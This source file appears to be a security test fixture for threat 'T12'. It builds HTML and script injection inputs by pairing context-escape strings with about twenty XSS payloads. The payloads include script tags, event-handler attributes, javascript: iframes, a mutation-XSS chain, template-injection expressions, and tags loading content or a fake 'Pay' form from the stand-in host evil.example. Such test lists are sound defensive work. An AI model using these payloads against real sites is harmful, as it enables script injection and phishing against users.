// Threat T12: texts meant to run in a page, or to request something from another site. Each would leave an
// element or attribute named `data-x`, or set `window.x`.

/** Ways out of the context of a text: an attribute, a text-only element, a comment, or a script. */
const escapes = [
  '',
  '">',
  `'>`,
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '</option></select>',
  '-->',
  ']]>',
  '&quot;&gt;',
  '\\u0022\\u003e',
  '%22%3e',
];

const payloads = [
  '<script data-x>window.x=1</script>',
  '<script data-x src=//evil.example/x.js></script>',
  '<img data-x src=x onerror=window.x=1>',
  '<img data-x src=//evil.example/x.png>',
  '<svg data-x onload=window.x=1>',
  '<svg data-x><script href=data:,window.x=1></script></svg>',
  '<iframe data-x srcdoc="<script>top.x=1</script>"></iframe>',
  '<iframe data-x src=javascript:top.x=1></iframe>',
  '<math data-x><mtext><table><mglyph><style><img src=x onerror=window.x=1>',
  '<details data-x open ontoggle=window.x=1>',
  '<input data-x autofocus onfocus=window.x=1>',
  '<video data-x><source onerror=window.x=1></video>',
  '<object data-x data=//evil.example/x></object>',
  '<link data-x rel=stylesheet href=//evil.example/x.css>',
  '<style data-x>*{background:url(//evil.example/x)}</style>',
  '<base data-x href=//evil.example/>',
  '<meta data-x http-equiv=refresh content="0;url=//evil.example">',
  '<form data-x action=//evil.example><button autofocus>Pay</button>',
  '" data-x autofocus onfocus=window.x=1 x="',
  '{{constructor.constructor("window.x=1")()}}${window.x=1}javascript:window.x=1',
];

export const injectionTexts = payloads.flatMap((payload) => escapes.map((escape) => escape + payload));

/** All of them in one, for long fields. */
export const combinedInjectionText = escapes.join('') + payloads.join('');
